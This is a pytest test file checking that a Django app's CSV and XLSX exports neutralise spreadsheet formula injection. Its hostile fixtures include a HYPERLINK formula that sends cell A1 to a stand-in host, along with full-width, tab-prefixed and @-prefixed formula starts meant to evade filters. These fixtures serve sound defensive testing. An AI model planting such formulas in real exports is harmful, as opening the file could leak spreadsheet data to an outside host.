"""Exports never hand a spreadsheet a formula (OWASP "CSV injection"), in CSV or XLSX.

Hostile texts come from the buyer (supplier names and titles, through the real models)
and from the gateway (the sandbox's scenario 963 sends a spec, a line message and a
promotion text that start formulas); the run goes through the real sandbox over HTTP and
the files come from the real export view, read back with `csv` and `openpyxl`.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from previews import exports
from previews.sandbox import FORMULA_MESSAGE, FORMULA_PROMOTION, FORMULA_SPEC

from .test_run_features import preview

# Written apart from the product's rule on purpose: what a spreadsheet would evaluate.
FORMULA_FIRST = tuple("=+-@＝＋－＠")


def evaluated(text: str) -> bool:
    return text[:1] in ("\t", "\r") or text.lstrip().startswith(FORMULA_FIRST)


LINK_SUPPLIER = '=HYPERLINK("http://x.test/?"&A1,"点此")'
MINUS_SUPPLIER = "-2+3 义乌"
AT_SUPPLIER = "@SUM(A1) 汕头"
TAB_TITLE = "\t=1+1"
FULL_WIDTH_TITLE = '＝HYPERLINK("http://x.test/")'
SPACED_TITLE = "  +86 138"
CART = {
    LINK_SUPPLIER: [(671234001100, "", 1)],
    MINUS_SUPPLIER: [(672345001963, "", 2)],  # scenario 963: the gateway's own formulas
    AT_SUPPLIER: [(673456001200, "", 3), (673456001300, "", 1)],
}
TITLES = {671234001100: TAB_TITLE, 673456001200: FULL_WIDTH_TITLE, 673456001300: SPACED_TITLE}
EXPECTED_TEXTS = [LINK_SUPPLIER, MINUS_SUPPLIER, AT_SUPPLIER, TAB_TITLE, FULL_WIDTH_TITLE,
                  SPACED_TITLE, FORMULA_SPEC]  # fmt: skip
EXPECTED_STARTS = [FORMULA_MESSAGE, FORMULA_PROMOTION]


@pytest.fixture
def hostile_run(buyer, buyer_client, stocked_cart, inline_runs):
    address, lines = stocked_cart(buyer, CART)
    for line in lines:
        line.title = TITLES.get(line.offer_id, "")
        line.save(update_fields=["title"])
    run = preview(buyer_client, address, lines)
    statuses = set(run.suppliers.values_list("status", flat=True))
    assert statuses == {"ok"}, statuses
    return run


@pytest.mark.django_db(transaction=True)
def test_csv_export_neutralises_every_formula(buyer_client, hostile_run):
    response = buyer_client.get(reverse("previews:run-csv", args=[hostile_run.pk]))
    content = response.getvalue()  # streamed: read once
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if evaluated(cell)] == []
    for text in EXPECTED_TEXTS:  # each shown, behind a quote that keeps it text
        assert "'" + text in cells, text
    for start in EXPECTED_STARTS:
        assert any(cell.startswith("'" + start) for cell in cells), start
    # Numbers stay numbers: written bare, while every text is quoted.
    row = next(r for r in rows if "672345001963" in r)
    raw_line = next(
        line for line in content.decode("utf-8-sig").splitlines() if "672345001963" in line
    )
    assert ",672345001963," in raw_line
    assert sum(1 for cell in row if _is_decimal(cell)) >= 4  # offer, quantity, amounts


@pytest.mark.django_db(transaction=True)
def test_xlsx_export_writes_text_as_text_never_a_formula(buyer_client, hostile_run):
    response = buyer_client.get(reverse("previews:run-xlsx", args=[hostile_run.pk]))
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert [text for text in texts if evaluated(text)] == []
    for text in EXPECTED_TEXTS:
        assert "'" + text in texts, text
    for start in EXPECTED_STARTS:
        assert any(text.startswith("'" + start) for text in texts), start
    row = next(r for r in sheet.iter_rows(values_only=True) if 672345001963 in r)
    assert sum(1 for v in row if isinstance(v, int | float) and not isinstance(v, bool)) >= 4


def _is_decimal(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


def test_the_cell_layer_keeps_numbers_and_quotes_text():
    """Negative numbers stay numbers; text that looks like one is text."""
    rows = [["h"] * 7, [Decimal("-5.00"), "-5", -3, "a,=b", None, "#N/A", "x\x01y"]]
    text = exports.to_csv(rows).decode("utf-8-sig")
    assert text.splitlines()[1] == '-5.00,"\'-5",-3,"a,=b",,"#N/A","x\x01y"'
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(rows, title="t"))).active
    values = [(c.value, c.data_type) for c in sheet[2]]
    assert values[:4] == [(-5, "n"), ("'-5", "s"), (-3, "n"), ("a,=b", "s")]
    assert values[5:7] == [("#N/A", "s"), ("x\ufffdy", "s")]
